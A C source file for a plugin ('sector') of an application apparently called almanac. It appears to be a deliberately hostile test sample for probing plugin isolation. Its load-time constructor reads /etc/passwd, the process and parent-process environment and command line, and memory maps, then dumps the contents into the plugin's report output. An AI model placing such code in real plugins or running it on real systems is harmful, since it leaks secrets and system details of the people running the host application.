/* Why: a sector that reads in a constructor all that a process of its user may read, keeps
 * descriptors for its calls, and prints what it has into the report.
 * SPDX-License-Identifier: Apache-2.0 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include "bad_sector.h"

static char prey[4000];
static int kept[32];
static int count;

static void read_more(int file) {
    const size_t filled = strlen(prey);
    const ssize_t got = read(file, prey + filled, sizeof prey - 1 - filled);
    if (got > 0) prey[filled + (size_t)got] = 0;
}

static void take(int file) {
    read_more(file);
    kept[count++] = file;
}

static void look_at(const char* path) {
    int file = open(path, O_RDONLY | O_CLOEXEC);
    if (file >= 0) take(file);
    file = openat(AT_FDCWD, path, O_RDONLY);
    if (file >= 0) take(file);
}

__attribute__((constructor)) static void steal(void) {
    char path[64];
    look_at("/etc/passwd");
    look_at("almanac.json");
    look_at("/proc/self/environ");
    look_at("/proc/self/maps");
    snprintf(path, sizeof path, "/proc/%d/environ", (int)getppid());
    look_at(path);
    snprintf(path, sizeof path, "/proc/%d/cmdline", (int)getppid());
    look_at(path);
}

static int32_t serve(const almanac_host* host, almanac_text request) {
    static char answer[9000];
    char* to = answer;
    const char* from;
    int i;
    (void)request;
    for (i = 0; i < count; ++i) read_more(kept[i]);
    to += sprintf(to,
                  "{\"sections\":[{\"id\":\"prey\",\"title\":[{\"type\":\"text\",\"text\":\"P\"}],"
                  "\"blocks\":[{\"type\":\"paragraph\",\"content\":[{\"type\":\"text\",\"text\":"
                  "\"PREY %d:",
                  count);
    for (from = prey; *from; ++from)
        *to++ = (*from >= ' ' && *from != '"' && *from != '\\' && *from < 127) ? *from : ' ';
    strcpy(to, "\"}]}]}]}");
    emit(host, answer);
    return 0;
}

static int32_t measure(const almanac_host* host, almanac_text request) {
    (void)request;
    emit(host, "{\"series\":[]}");
    return 0;
}

const almanac_sector almanac_sector_entry = {
    (uint32_t)(ENTRY_SIZE), ENTRY_MAJOR, ENTRY_MINOR, ENTRY_ID, ENTRY_VERSION, measure, serve, 0};
